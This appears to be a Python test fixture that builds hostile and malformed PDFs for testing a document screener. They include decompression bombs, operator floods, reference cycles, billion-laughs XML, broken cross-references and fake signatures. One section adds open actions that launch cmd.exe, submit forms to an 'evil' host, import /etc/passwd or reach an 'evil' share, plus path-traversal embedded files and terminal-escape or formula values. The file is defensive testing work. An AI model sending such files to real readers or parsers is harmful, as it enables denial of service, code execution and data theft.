"""PDFs that are made to exhaust, to loop, to hide or to run something; each by its name, made when asked."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping
from typing import Final

from tests.screening.printer import Words, document, paper, small_form

__all__ = ["BENIGN", "PDFS"]

Make = Callable[[], bytes]
_PAGES: Final = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>"
_FONT: Final = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_WORDS: Final = b"BT /F1 12 Tf 60 700 Td (Hej) Tj ET"


def one_page(
    *more: bytes,
    root: bytes = b"",
    page: bytes = b"",
    content: bytes = b"",
    attrs: bytes = b"",
    pages: bytes = _PAGES,
) -> bytes:
    """A PDF of one page; `more` are objects from 6 on, the others go into the catalogue, page and contents."""
    stream = content or _WORDS
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
            pages,
            b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R %s >>"
            % page,
            b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(stream), attrs, stream),
            _FONT,
            *more,
        ]
    )


def stream(data: bytes, attrs: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), attrs, data)


def zeros(size: int) -> bytes:
    """So many zeros, deflated."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(bytes(1_000_000)) for _ in range(size // 1_000_000)]
    return b"".join(parts) + packer.flush()


def repeated(words: bytes, times: int) -> bytes:
    """Words so many times, deflated."""
    return zlib.compress(words * times, 9)


_FLATE: Final = b"/Filter /FlateDecode"
_TWICE: Final = b"/Filter [/FlateDecode /FlateDecode]"


def many_pages(count: int, content: bytes) -> bytes:
    """Pages that all show the same stream."""
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>" % (kids, count),
            _FONT,
            stream(content, _FLATE),
            *[page] * count,
        ]
    )


def fields(count: int) -> bytes:
    """So many fields."""
    refs = b" ".join(b"%d 0 R" % (6 + n) for n in range(count))
    each = (b"<< /FT /Tx /T (f%d) /V (x) /Subtype /Widget /Rect [0 0 9 9] >>" % n for n in range(count))
    return one_page(*each, root=b"/AcroForm << /Fields [%s] >>" % refs)


def chained(count: int, key: bytes = b"/Kids [%d 0 R]") -> bytes:
    """Fields in fields in fields."""
    each = (b"<< /T (f) %s >>" % (key % (7 + n)) for n in range(count))
    return one_page(*each, b"<< /FT /Tx /T (end) >>", root=b"/AcroForm << /Fields [6 0 R] >>")


def page_tree(depth: int) -> bytes:
    """Pages in pages in pages."""
    each = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (3 + n) for n in range(depth)]
    return document([b"<< /Type /Catalog /Pages 2 0 R >>", *each, b"<< /Type /Page /MediaBox [0 0 9 9] >>"])


def action(body: bytes) -> Make:
    """Something that is run when the file is opened."""
    return lambda: one_page(root=b"/OpenAction << %s >>" % body)


def object_stream(data: bytes, attrs: bytes) -> bytes:
    """A file whose objects are said to lie in a stream."""
    body = b"%PDF-1.7\n" + b"1 0 obj\n" + stream(data, b"/Type /ObjStm " + attrs) + b"\nendobj\n"
    entries = bytes([0, 0, 0, 0, 255]) + bytes([1, 0, 0, 9, 0]) + bytes([2, 0, 0, 1, 0]) * 5
    at = len(body)
    xref = b"/Type /XRef /W [1 3 1] /Size 7 /Root 2 0 R"
    return body + b"9 0 obj\n" + stream(entries, xref) + b"\nendobj\nstartxref\n%d\n%%%%EOF" % at


def tail(text: bytes) -> bytes:
    """A good file that ends otherwise."""
    good = paper([Words(60, 700, "Hej")])
    return good[: good.rindex(b"startxref")] + text


def signed(byte_range: bytes, contents: bytes = b"30820000") -> bytes:
    """What calls itself signed."""
    value = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange %s /Contents <%s> >>"
    field = b"<< /FT /Sig /T (S) /V 7 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R >>"
    return one_page(
        field,
        value % (byte_range, contents),
        root=b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >>",
        page=b"/Annots [6 0 R]",
    )


def embedded(name: bytes) -> bytes:
    """A file within the file."""
    names = b"/Names << /EmbeddedFiles << /Names [(%s) 6 0 R] >> >>" % name
    return one_page(
        b"<< /Type /Filespec /F (%s) /EF << /F 7 0 R >> >>" % name,
        stream(b"MZ", b"/Type /EmbeddedFile"),
        root=names,
    )


_LAUGHS: Final = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "' + b"ha" * 50 + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 50) for n in range(12))
    + b"]><l>&m;</l>"
)  # fmt: skip
_CMAP: Final = (
    b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange "
)


def font_map(ranges: int) -> bytes:
    """A font that maps everything, again and again."""
    cmap = (
        _CMAP + b"%d beginbfrange " % ranges + b"<0000> <FFFF> <0000> " * ranges + b"endbfrange endcmap end"
    )
    page = b"/Resources << /Font << /F1 6 0 R >> >>"
    return one_page(
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [8 0 R] /ToUnicode 7 0 R >>",
        stream(cmap),
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (A) /Ordering (I) /Supplement 0 >> >>",
        page=page,
        content=b"BT /F1 9 Tf <00410042> Tj ET",
    )


PDFS: Final[Mapping[str, Make]] = {
    # What unfolds
    "bomb-1gb": lambda: one_page(content=zeros(1_000_000_000), attrs=_FLATE),
    "bomb-twice": lambda: one_page(content=zlib.compress(zeros(1_000_000_000), 9), attrs=_TWICE),
    "bomb-thrice": lambda: one_page(
        content=zlib.compress(zlib.compress(zeros(500_000_000), 9), 9), attrs=b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    ),
    "bomb-filters": lambda: one_page(content=b"x", attrs=b"/Filter [" + b"/FlateDecode " * 5_000 + b"]"),
    "bomb-hex": lambda: one_page(content=b"41" * 20_000_000, attrs=b"/Filter /ASCIIHexDecode"),
    "bomb-run-length": lambda: one_page(content=b"\x81\x20" * 5_000_000, attrs=b"/Filter /RunLengthDecode"),
    "bomb-lzw": lambda: one_page(content=b"\x80\x0b\x60\x50" * 2_000_000, attrs=b"/Filter /LZWDecode"),
    "bomb-object-stream": lambda: object_stream(zeros(1_000_000_000), b"/N 5 /First 30 " + _FLATE),
    "bomb-appearance": lambda: one_page(
        b"<< /FT /Tx /T (f) /V (x) /Subtype /Widget /Rect [0 0 90 9] /AP << /N 7 0 R >> /P 3 0 R >>",
        stream(zeros(500_000_000), b"/Subtype /Form /BBox [0 0 9 9] " + _FLATE),
        root=b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
    ),
    "flood-operators": lambda: one_page(content=repeated(b"0 0 m ", 10_000_000), attrs=_FLATE),
    "flood-texts": lambda: one_page(content=repeated(b"BT /F1 9 Tf (x) Tj ET ", 2_000_000), attrs=_FLATE),
    "flood-arrays": lambda: one_page(content=repeated(b"[ ", 3_000_000), attrs=_FLATE),
    "flood-saves": lambda: one_page(content=repeated(b"q ", 5_000_000), attrs=_FLATE),
    "flood-inline-images": lambda: one_page(content=repeated(b"BI /W 9 /H 9 ID xx EI ", 500_000), attrs=_FLATE),
    "pages-200-same": lambda: many_pages(200, repeated(b"BT /F1 9 Tf (x) Tj ET ", 200_000)),
    "pages-400-just-under": lambda: many_pages(400, repeated(b"BT /F1 9 Tf (x) Tj ET ", 15_000)),
    "pages-2500": lambda: many_pages(2_500, zlib.compress(_WORDS)),
    "fields-200000": lambda: fields(200_000),
    "fields-deep": lambda: chained(5_000),
    "string-60mb": lambda: one_page(b"(" + b"x" * 60_000_000 + b")", root=b"/AcroForm << /Fields [] /X 6 0 R >>"),
    "string-open": lambda: one_page(root=b"/Lang (" + b"(" * 500_000),
    "name-10mb": lambda: one_page(root=b"/" + b"x" * 10_000_000 + b" 1"),
    "number-long": lambda: one_page(root=b"/X " + b"9" * 1_000_000),
    "arrays-deep": lambda: one_page(b"[" * 100_000 + b"]" * 100_000, root=b"/X 6 0 R"),
    "dictionaries-deep": lambda: one_page(b"<</A" * 100_000 + b"1" + b">>" * 100_000, root=b"/X 6 0 R"),
    "map-wide": lambda: font_map(500),
    # What goes round in circles
    "cycle-pages": lambda: one_page(pages=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    "cycle-fields": lambda: chained(1, b"/Kids [6 0 R] %% %d"),
    "cycle-contents": lambda: one_page(page=b"/Contents 3 0 R"),
    "cycle-reference": lambda: one_page(b"6 0 R", root=b"/AcroForm 6 0 R"),
    "cycle-length": lambda: document(
        [b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
         b"<< /Length 4 0 R >>\nstream\nx\nendstream"]
    ),
    "cycle-drawing": lambda: one_page(
        stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"),
        page=b"/Resources << /XObject << /X 6 0 R >> >>",
        content=b"/X Do",
    ),
    "cycle-previous": lambda: tail(b"startxref\n9\n%%EOF"),
    "cycle-extends": lambda: object_stream(b"2 0 3 5 << >> << >>", b"/N 2 /First 8 /Extends 1 0 R"),
    "deep-pages": lambda: page_tree(10_000),
    # What is broken
    "startxref-beyond": lambda: tail(b"startxref\n999999999999\n%%EOF"),
    "startxref-negative": lambda: tail(b"startxref\n-5\n%%EOF"),
    "startxref-none": lambda: tail(b""),
    "only-a-head": lambda: b"%PDF-1.7\n",
    "head-and-noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4_000,
    "root-none": lambda: document([b"<< /Type /Pages /Kids [] /Count 0 >>"], root=9),
    "root-number": lambda: document([b"7"]),
    "no-pages": lambda: document([b"<< /Type /Catalog >>"]),
    "pages-number": lambda: document([b"<< /Type /Catalog /Pages 5 >>"]),
    "count-lies": lambda: one_page(pages=b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"),
    "length-lies": lambda: one_page().replace(b"/Length 34", b"/Length -9"),
    "contents-number": lambda: one_page(page=b"/Contents 7"),
    "fields-text": lambda: one_page(root=b"/AcroForm << /Fields (x) >>"),
    "form-number": lambda: one_page(root=b"/AcroForm 5"),
    "annotations-name": lambda: one_page(page=b"/Annots /X"),
    "resources-list": lambda: one_page(page=b"/Resources [1 2]"),
    "box-huge": lambda: one_page(pages=_PAGES.replace(b"595 842", b"99999999999 1e300")),
    "box-letters": lambda: one_page(pages=_PAGES.replace(b"595 842", b"/A (b)")),
    "html": lambda: b"<html><script>alert(1)</script>%PDF-</html>",
    "an-archive": lambda: b"PK\x05\x06" + bytes(18),
    "nothing": lambda: b"",
    "password": lambda: _encrypted(b"/V 1 /R 2"),
    "lock-unknown": lambda: _encrypted(b"/Filter /Evil /V 99 /R 99"),
    "lock-huge": lambda: _encrypted(b"/V 4 /R 4 /Length 2147483647 /CF << /StdCF << /CFM /AESV9 >> >>"),
    "xref-stream-huge": lambda: object_stream(b"", b"/N 1000000000 /First 1000000000"),
    "xfa-laughs": lambda: one_page(stream(_LAUGHS), root=b"/AcroForm << /Fields [] /XFA 6 0 R >>"),
    "xmp-laughs": lambda: one_page(stream(_LAUGHS, b"/Type /Metadata /Subtype /XML"), root=b"/Metadata 6 0 R"),
    # What would run
    "script": action(b"/S /JavaScript /JS (app.alert\\(1\\))"),
    "script-hidden": action(b"/S /Java#53cript /JS (app.alert\\(1\\))"),
    "launch": action(b"/S /Launch /F (cmd.exe)"),
    "submit": action(b"/S /SubmitForm /F (http://evil/)"),
    "import": action(b"/S /ImportData /F (/etc/passwd)"),
    "elsewhere": action(b"/S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf)"),
    "embedded": lambda: embedded(b"../../evil.exe"),
    "embedded-link": lambda: embedded(b"/etc/cron.d/evil"),
    # What calls itself signed
    "signed-nothing": lambda: signed(b"[0 0 0 0]"),
    "signed-negative": lambda: signed(b"[0 -5 10 -7]"),
    "signed-beyond": lambda: signed(b"[0 10 999999999 999999999]"),
    "signed-all": lambda: signed(b"[0 1 2 3 4 5 6 7]"),
    "signed-noise": lambda: signed(b"[0 10 20 30]", b"DEADBEEF" * 500_000),
    # What is shown to whoever reads
    "signs-in-values": lambda: small_form(a="\x1b]0;evil\x07\x1b[31m", b="=HYPERLINK", c="[@click=app.quit]x[/]"),
}  # fmt: skip
"""What is told, or read as what it is: never complete, and never in the way of the next."""

BENIGN: Final[Mapping[str, Make]] = {
    "head-late": lambda: b"x" * 1_000 + paper([Words(60, 700, "Meritförteckning")]),
    "head-too-late": lambda: b"x" * 2_000 + paper([Words(60, 700, "Meritförteckning")]),
    "ends-twice": lambda: paper([Words(60, 700, "Meritförteckning")]) * 2,
    "two-scripts": lambda: paper([Words(60, 700, "Meritförteckning \\000\\033[31m")]),
    "text-right-to-left": lambda: paper([Words(60, 700, "Meritförteckning")]).replace(b"Merit", b"tireM"),
    "noise-behind": lambda: paper([Words(60, 700, "Meritförteckning")]) + bytes(5_000_000),
    "noise-between": lambda: one_page(b"(" + b"\\377\\376" * 10_000 + b")"),
}
"""Strange, and perhaps sound."""


def _encrypted(how: bytes) -> bytes:
    lock = b"<< /Filter /Standard %s /O <%s> /U <%s> /P -4 >>" % (how, b"41" * 32, b"42" * 32)
    data = one_page(lock)
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 6 0 R /ID [<00> <00>]")
